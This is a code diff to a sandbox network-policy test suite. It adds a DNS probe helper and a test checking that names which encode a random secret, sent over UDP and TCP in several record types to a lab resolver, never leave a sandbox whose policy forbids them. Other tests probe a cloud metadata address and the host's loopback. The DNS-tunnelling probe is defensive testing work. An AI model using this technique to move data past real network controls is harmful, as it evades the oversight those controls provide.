@@ -13,6 +13,7 @@ import { execFileSync } from 'node:child_process'
 import { readFileSync, writeFileSync, mkdtempSync, rmSync } from 'node:fs'
 import { createServer } from 'node:net'
 import { request } from 'node:http'
+import { randomBytes } from 'node:crypto'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { Sandbox } from 'e2b'
@@ -62,11 +63,23 @@ def probe(kind, *a):
                     break
             f.read(length)
         return " ".join(codes)
-    if kind == "udpdns":  # a query for allowed.test straight to a[0]
-        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-        s.settimeout(3)
-        s.sendto(bytes.fromhex("abcd0100000100000000000007616c6c6f77656404746573740000010001"), (a[0], 53))
-        return s.recv(512).hex()
+    if kind == "dns":  # a query of type a[2] for a[3] over a[1] (udp, tcp) to a[0] ("-": the sandbox's resolver)
+        server = a[0]
+        if server == "-":
+            server = next(l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver"))
+        qtype = {"A": 1, "AAAA": 28, "TXT": 16, "MX": 15}[a[2]]
+        q = b"\xab\xcd\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
+        q += b"".join(bytes([len(p)]) + p.encode() for p in a[3].split(".")) + b"\x00" + qtype.to_bytes(2, "big") + b"\x00\x01"
+        if a[1] == "udp":
+            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            s.settimeout(3)
+            s.sendto(q, (server, 53))
+            r = s.recv(512)
+        else:
+            s = socket.create_connection((server, 53), timeout=3)
+            s.sendall(len(q).to_bytes(2, "big") + q)
+            r = s.recv(514)[2:]
+        return "rcode %d answers %d" % (r[3] & 15, int.from_bytes(r[6:8], "big"))
     if kind == "myip":
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         s.connect(("203.0.113.1", 9))
@@ -166,7 +179,7 @@ test('allowInternetAccess: the internet, but not the host, its loopback, metadat
     await expectFail(sbx, 'tcp', '169.254.169.254', '80')
     await expectFail(sbx, 'resolve', 'rebind.test')
     // DNS only through the sandbox's own resolver.
-    await expectFail(sbx, 'udpdns', '203.0.113.53')
+    await expectFail(sbx, 'dns', '203.0.113.53', 'udp', 'A', 'allowed.test')
     await expectFail(sbx, 'tcp', '203.0.113.53', '53')
     assert.equal(onHost.accepted(), 0, 'the host heard from the sandbox')
     assert.equal(onLoopback.accepted(), 0, "the host's loopback heard from the sandbox")
@@ -215,6 +228,48 @@ test('denyOut by address and by name, on top of the internet', { skip }, async (
     await expectOK(sbx, /^OK 200 403$/, 'keepalive', '203.0.113.30', 'allowed.test', 'other.test')
   } finally {
     await sbx.kill()
+  }
+})
+
+// DNS tunnelling: code that may not reach a name encodes what it wants
+// out in the names it looks up, for whoever answers them to read. The
+// lab's DNS server writes down every name it is asked
+// (AIRLOCK_LAB_DNS_LOG): a name the policy does not allow must never get
+// there, whatever the query's type, transport or destination. With the
+// internet allowed a name is forwarded, as any resolver would: there DNS
+// is a channel out as HTTP is, which the first case shows the log sees.
+test('DNS tunnelling: a name the policy does not allow never reaches a resolver outside', { skip }, async () => {
+  const asked = () => readFileSync(process.env.AIRLOCK_LAB_DNS_LOG, 'utf8')
+  const secret = 'x' + randomBytes(8).toString('hex')
+  const cases = [
+    ['the internet', { allowInternetAccess: true }, true],
+    ['no network', {}, false],
+    ['allowOut by name', { network: { allowOut: ['allowed.test', '198.51.100.0/24'] } }, false],
+    ['denyOut *.tunnel.test on the internet', { allowInternetAccess: true, network: { denyOut: ['*.tunnel.test'] } }, false],
+  ]
+  for (const [i, [what, opts, forwarded]] of cases.entries()) {
+    const name = (n) => `${secret}-${i}-${n}.tunnel.test`
+    const sbx = await create(opts)
+    try {
+      await probe(sbx, 'resolve', name('a'))
+      let n = 0
+      for (const proto of ['udp', 'tcp']) {
+        for (const type of ['A', 'AAAA', 'TXT', 'MX']) {
+          // Through the sandbox's resolver, and straight to the lab's.
+          await probe(sbx, 'dns', '-', proto, type, name(n++))
+          await probe(sbx, 'dns', '203.0.113.53', proto, type, name(n++))
+        }
+      }
+      if (opts.allowInternetAccess || opts.network) await expectOK(sbx, /203\.0\.113\.10/, 'resolve', 'allowed.test')
+      const log = asked()
+      if (forwarded) {
+        assert.match(log, new RegExp(`A ${name('a')}\n`), `${what}: the lab's resolver saw the name (the log works)`)
+      } else {
+        assert.ok(!log.includes(`${secret}-${i}-`), `${what}: names reached the lab's resolver:\n${log.split('\n').filter((l) => l.includes(secret)).join('\n')}`)
+      }
+    } finally {
+      await sbx.kill()
+    }
   }
 })
 
